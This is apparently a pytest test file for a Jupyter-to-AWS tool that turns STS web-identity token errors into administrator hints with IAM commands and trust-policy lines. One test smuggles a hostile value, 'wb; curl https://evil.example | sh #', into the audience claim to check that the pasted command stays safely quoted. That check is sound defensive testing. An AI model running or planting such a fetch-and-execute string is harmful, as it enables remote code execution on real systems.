"""What an administrator has to change, from what STS says about the token."""

import shlex

import pytest
from botocore import exceptions as boto

from jupyter_wb_aws.aws.botocore_errors import explain_exception
from jupyter_wb_aws.aws.iam_claims import subject_pattern_of
from jupyter_wb_aws.aws.sts import is_aws_endpoint
from jupyter_wb_aws.errors import StsRejected, StsUnavailable, TokenRefused, TrustRefused
from jupyter_wb_aws.roles.role import RoleArn
from jupyter_wb_aws.roles.session_tags import SOURCE_IDENTITY, TAGS
from tests.botocore_data import knows
from tests.conftest import NOON

ROLE = RoleArn.parse("arn:aws:iam::111122223333:role/analyst")
CLAIMS = {
    "iss": "https://idp.example.com",
    "aud": "wb",
    "sub": "alice",
    "exp": NOON.timestamp(),
    "email": "a@example.com",
}
ARN = "arn:aws:iam::111122223333:oidc-provider/idp.example.com"
# As AWS says it: aws-actions/configure-aws-credentials issues 280 and 357, awslabs/aws-sdk-rust
# issue 827, aws/aws-sdk-ruby issue 2698, aws/containers-roadmap issue 2413.
NO_PROVIDER = "No OpenIDConnect provider found in your account for https://idp.example.com"
AUDIENCE = "Incorrect token audience"
NO_KEY = "Couldn't retrieve verification key from your identity provider,  please reference AssumeRoleWithWebIdentity documentation for requirements"
THUMBPRINT = "OpenIDConnect provider's HTTPS certificate doesn't match configured thumbprint"
NO_ROLE_CLAIM = "The target role ARN is not present in the roles claim of the identity token"
NO_JWT = (
    "The ID Token provided is not a valid JWT. (You may see this error if you sent an Access Token)"
)


def explained(code, message="", *, is_aws_sts=True, status=400, **claims):
    response = {
        "Error": {"Code": code, "Message": message},
        "ResponseMetadata": {"HTTPStatusCode": status},
    }
    error = boto.ClientError(response, "AssumeRoleWithWebIdentity")
    return explain_exception(error, ROLE, {**CLAIMS, **claims}, is_aws_sts=is_aws_sts)


@pytest.mark.parametrize(
    ("message", "claims", "parts"),
    [
        (NO_PROVIDER, {}, ["aws iam create-open-id-connect-provider --url https://idp.example.com --client-id-list wb.", "no slash at its end"]),
        (NO_PROVIDER, {"iss": "https://idp.example.com/"}, ["--url https://idp.example.com/ ", "ends with a slash"]),
        (NO_PROVIDER, {"aud": ["a", "b"]}, ["--client-id-list CLIENT_ID"]),
        (AUDIENCE, {}, [f"aws iam add-client-id-to-open-id-connect-provider --open-id-connect-provider-arn {ARN} --client-id wb."]),
        (AUDIENCE, {"aud": "api://wb", "azp": "0oa1"}, ["AWS compares `azp`, '0oa1', and not `aud`, 'api://wb'", "--client-id 0oa1.", "azp = '0oa1'"]),
        (AUDIENCE, {"aud": ["a", "b"]}, ["2 audiences", "one audience"]),
        (AUDIENCE, {"aud": None}, ["no audience"]),
        (AUDIENCE, {"iss": "https://accounts.google.com"}, ["trust policy"]),
        (NO_KEY, {}, ["https://idp.example.com/.well-known/openid-configuration", "`jwks_uri`", "5 s", "`kid`"]),
        (NO_KEY, {"iss": "https://idp.example.com/"}, ["https://idp.example.com/.well-known/"]),
        (THUMBPRINT, {}, [f"update-open-id-connect-provider-thumbprint --open-id-connect-provider-arn {ARN}"]),
        (NO_ROLE_CLAIM, {}, ["`https://aws.amazon.com/roles`", str(ROLE)]),
        (NO_JWT, {}, ["id token", "whole seconds"]),
        ("Missing a required claim: aud", {"aud": None}, ["id token", "aud = None"]),
        ("It is Tuesday.", {}, ["Account 111122223333 needs an IAM identity provider", "trailing slash"]),
    ],
)  # fmt: skip
def test_each_problem_of_a_token_has_its_own_hint(message, claims, parts):
    failure = explained("InvalidIdentityToken", message, **claims)
    assert isinstance(failure, TokenRefused)
    for part in parts:
        assert part in failure.admin_hint
    issuer = claims.get("iss", "https://idp.example.com")
    assert f"iss = '{issuer}', " in failure.admin_hint
    assert "sub = 'alice'" in failure.admin_hint
    assert "a@example.com" not in str(failure.as_problem())


def test_no_two_hints_are_the_same():
    messages = [NO_PROVIDER, AUDIENCE, NO_KEY, THUMBPRINT, NO_ROLE_CLAIM, NO_JWT, "It is Tuesday."]
    hints = {explained("InvalidIdentityToken", message).admin_hint for message in messages}
    assert len(hints) == len(messages)


@pytest.mark.parametrize("message", [NO_PROVIDER, NO_KEY, "It is Tuesday."])
@pytest.mark.parametrize(
    ("issuer", "why"),
    [
        ("http://idp.example.com", "is not an https URL"),
        ("https://idp.example.com:8443", "has a port"),
        ("https://localhost/realms/lab", "in a private network"),
    ],
)
def test_an_issuer_that_iam_cannot_take_is_named_and_no_command_that_cannot_help(
    message, issuer, why
):
    hint = explained("InvalidIdentityToken", message, iss=issuer).admin_hint
    assert why in hint
    assert f"iss = '{issuer}'" in hint
    assert "aws iam" not in hint


@pytest.mark.parametrize("message", [NO_PROVIDER, NO_KEY, AUDIENCE, "It is Tuesday."])
def test_a_store_with_its_own_sts_may_accept_any_issuer(message):
    hint = explained(
        "InvalidIdentityToken", message, is_aws_sts=False, iss="http://127.0.0.1:8080"
    ).admin_hint
    assert not any(
        word in hint for word in ("is not an https URL", "has a port", "private network")
    )


def test_a_store_without_a_useful_message_gets_the_hint_for_stores():
    # SeaweedFS's answer to any invalid token.
    failure = explained("InvalidParameterValue", "invalid web identity token", is_aws_sts=False)
    assert isinstance(failure, TokenRefused)
    assert "The store's STS must know exactly the token's issuer" in failure.admin_hint
    assert "iss = 'https://idp.example.com'" in failure.admin_hint
    assert "aws iam" not in failure.admin_hint


@pytest.mark.parametrize(
    ("endpoint", "aws"),
    [
        (None, True),
        ("https://sts.us-east-2.amazonaws.com", True),
        ("https://sts.cn-north-1.amazonaws.com.cn", True),
        ("https://vpce-1.sts.us-east-1.vpce.amazonaws.com", True),
        ("https://sts.us-east-1.api.aws", True),
        ("https://sts.eusc-de-east-1.amazonaws.eu", knows("eusc-de-east-1")),
        ("https://sts.us-iso-east-1.c2s.ic.gov", True),
        ("https://sts.eu-isoe-west-1.cloud.adc-e.uk", True),
        ("http://127.0.0.1:9000", False),
        ("https://s3.lab.example.com", False),
        ("https://notamazonaws.com", False),
        ("https://[::1", False),
    ],
)
def test_an_endpoint_is_aws_own_or_another_stores(endpoint, aws):
    assert is_aws_endpoint(endpoint) is aws


def test_an_identity_provider_that_aws_cannot_reach_is_named_with_what_to_try():
    failure = explained("IDPCommunicationError")
    assert isinstance(failure, StsUnavailable)
    assert failure.retry_after
    assert "curl https://idp.example.com/.well-known/openid-configuration" in failure.admin_hint
    assert (
        "private network" in explained("IDPCommunicationError", iss="https://idp.local").admin_hint
    )


def test_an_expired_token_is_reported_with_its_time():
    hint = explained("ExpiredTokenException", "Token expired").admin_hint
    assert "2026-11-24 12:00:00 UTC" in hint
    assert "clocks" in hint


@pytest.mark.parametrize("exp", ["soon", None, 1e300, float("nan"), [1]])
def test_an_expiry_that_is_not_a_time_is_shown_unchanged(exp):
    assert "clocks" in explained("ExpiredTokenException", exp=exp).admin_hint


# --- Size ----------------------------------------------------------------------------------


def test_a_token_that_is_too_long_is_reported_with_its_largest_claim():
    message = "1 validation error detected: Value '***Sensitive***' at 'webIdentityToken' failed to satisfy constraint: Member must have length less than or equal to 20000"
    failure = explained("ValidationError", message, groups=["secret-group"] * 500)
    assert isinstance(failure, TokenRefused)
    assert "`groups`" in failure.admin_hint
    assert "20000 characters" in failure.admin_hint
    assert "secret-group" not in str(failure.as_problem())


def test_tags_that_do_not_fit_are_reported_with_the_largest_ones_name():
    tags = {"principal_tags": {"Team": ["analytics"], "Groups": ["secret" * 40]}}
    message = "Packed size of session tags consumes 112% of allotted space."
    failure = explained("PackedPolicyTooLarge", message, **{TAGS: tags})
    assert isinstance(failure, StsRejected)
    assert "112%" in failure.detail
    assert "2 session tags" in failure.admin_hint
    assert "`Groups`, with 246 characters" in failure.admin_hint
    assert "secret" not in str(failure.as_problem())


def test_a_packed_policy_that_is_too_large_without_tags_has_a_hint_too():
    assert "limited space" in explained("PackedPolicyTooLarge").admin_hint


def test_a_region_without_sts_is_reported_with_what_to_change():
    assert "activate STS" in explained("RegionDisabledException", status=403).admin_hint


# --- The trust policy ----------------------------------------------------------------------


def denied(action="AssumeRoleWithWebIdentity", **claims):
    failure = explained(
        "AccessDenied", f"Not authorized to perform sts:{action}", status=403, **claims
    )
    assert isinstance(failure, TrustRefused)
    assert str(ROLE) in failure.admin_hint
    return failure.admin_hint


def test_a_subject_that_the_trust_policy_lacks_is_shown_as_the_lines_to_write():
    hint = denied()
    assert f'{{"Federated": "{ARN}"}}' in hint
    assert '"idp.example.com:aud": "wb"' in hint
    assert '"idp.example.com:sub": "alice"' in hint
    assert "sts:TagSession" not in hint


@pytest.mark.parametrize(
    ("claims", "lines"),
    [
        ({"iss": "https://idp.example.com/realms/lab"}, ['"idp.example.com/realms/lab:sub": "alice"']),
        ({"iss": "https://idp.example.com/"}, ['"idp.example.com/:sub": "alice"', 'oidc-provider/idp.example.com/"']),
        ({"aud": "api", "azp": "wb"}, ['"idp.example.com:aud": "wb"', "aud = 'api', azp = 'wb'"]),
        ({"sub": 'CORP\\"al"'}, [r'"idp.example.com:sub": "CORP\\\"al\""']),
        ({"iss": "https://accounts.google.com"}, ['{"Federated": "accounts.google.com"}', '"accounts.google.com:sub": "alice"']),
        ({TAGS: {"principal_tags": {"Team": ["analytics"]}}}, ['"aws:RequestTag/Team": "analytics"', "sts:AssumeRoleWithWebIdentity, sts:TagSession"]),
        ({SOURCE_IDENTITY: "alice"}, ["sts:AssumeRoleWithWebIdentity, sts:SetSourceIdentity"]),
    ],
)  # fmt: skip
def test_the_lines_are_those_of_this_token(claims, lines):
    hint = denied(**claims)
    for line in lines:
        assert line in hint


def test_a_store_with_its_own_message_gets_the_hint_for_stores():
    # SeaweedFS's answer to a token of an issuer that it does not know is this as well.
    failure = explained(
        "AccessDenied", "trust policy validation failed", status=403, is_aws_sts=False
    )
    assert isinstance(failure, TrustRefused)
    assert "the store does not know the token's issuer" in failure.admin_hint
    assert "iss = 'https://idp.example.com'" in failure.admin_hint
    assert "oidc-provider" not in failure.admin_hint


def test_an_action_that_the_trust_policy_lacks_is_named():
    tags = {TAGS: {"principal_tags": {"Team": ["analytics"]}}, SOURCE_IDENTITY: "alice"}
    assert "lacks the action sts:TagSession" in denied("TagSession", **tags)
    assert "lacks the action sts:SetSourceIdentity" in denied("SetSourceIdentity", **tags)


BOUND = {
    "https://aws.amazon.com/roles": [str(ROLE)],
    "preferred_username": "a b",
    "sub": "user:a%20b",
}
IN_SUBJECT = {"preferred_username": "a b", "sub": "user:a%20b:role:111122223333/analyst"}


def test_a_token_that_the_issuer_binds_to_the_role_needs_no_list_of_users():
    hint = denied(**BOUND, **{TAGS: {"principal_tags": {"Team": ["analytics"]}}})
    assert '"idp.example.com:aud": "wb", "sts:RoleAuthorizedByIdp": "true"' in hint
    assert '"idp.example.com:sub"' not in hint
    assert "other actions need a statement of their own" in hint
    assert "The second is `Bool`" in hint
    assert "`jupyter-wb-aws-hub trust-policy` prints the whole policy" in hint
    assert "StringLike" not in hint
    assert "trust-policy" not in denied()


def test_a_token_that_is_bound_to_the_role_gets_the_hint_for_aws_where_aws_s_message_comes_from_elsewhere():
    """Through a proxy, or from a simulation of AWS."""
    message = "Not authorized to perform sts:AssumeRoleWithWebIdentity"
    failure = explained("AccessDenied", message, status=403, is_aws_sts=False, **BOUND)
    assert '"sts:RoleAuthorizedByIdp": "true"' in failure.admin_hint
    assert '"idp.example.com:sub"' not in failure.admin_hint


def test_an_action_that_the_condition_of_the_roles_claim_does_not_know_gets_its_own_statement():
    hint = denied("TagSession", **BOUND, **{TAGS: {"principal_tags": {"Team": ["analytics"]}}})
    assert "Add it in a statement of its own. `jupyter-wb-aws-hub trust-policy` prints" in hint
    assert "to the statement's Action" not in hint


def test_a_role_in_the_subject_is_compared_by_a_pattern():
    pattern = '"StringLike" {"idp.example.com:sub": "user:*:role:111122223333/analyst"}'
    assert pattern in denied(**IN_SUBJECT)
    store = explained("AccessDenied", "Access Denied", is_aws_sts=False, status=403, **IN_SUBJECT)
    assert pattern in store.admin_hint


def test_a_roles_path_is_in_the_pattern_if_the_subject_has_it():
    role = RoleArn.parse("arn:aws:iam::111122223333:role/team/analyst")
    for name in ("team%2Fanalyst", "analyst"):
        claims = {"sub": f"user:bob:role:111122223333/{name}", "preferred_username": "bob"}
        assert subject_pattern_of(claims, role) == f"user:*:role:111122223333/{name}"


@pytest.mark.parametrize(
    "claims",
    [
        {"sub": "user:bob:role:111122223333/analyst"}, {"sub": "user:a%20b:role:444455556666/analyst"},
        {"preferred_username": ["a"]}, {"sub": "111122223333/analyst:a%20b"},
    ],
    ids=str,
)  # fmt: skip
def test_no_pattern_is_made_of_a_subject_that_does_not_name_user_and_role(claims):
    assert "StringLike" not in denied(**{**IN_SUBJECT, **claims})


def test_half_a_surrogate_pair_for_a_name_makes_no_pattern():
    assert "StringLike" not in denied(**{**IN_SUBJECT, "preferred_username": "\ud800"})


# --- What others wrote ---------------------------------------------------------------------


def test_a_command_can_be_pasted_with_any_token():
    hostile = "wb; curl https://evil.example | sh #"
    hint = explained("InvalidIdentityToken", AUDIENCE, aud=hostile).admin_hint
    command = hint.partition("aws iam")[2].partition(". Seen")[0]
    assert shlex.split(command)[-1] == hostile


def test_claims_are_shown_in_printable_characters_of_sensible_length():
    for message in (NO_PROVIDER, AUDIENCE, NO_KEY, THUMBPRINT, "It is Tuesday."):
        claims = {"iss": "https://x\x1b[31m" + "i" * 9000, "aud": "a\n" * 9000, "sub": "s" * 9000}
        failure = explained("InvalidIdentityToken", message, **claims)
        assert failure.admin_hint.isprintable()
        assert len(failure.admin_hint) < 2500
    assert len(denied(**claims)) < 3500
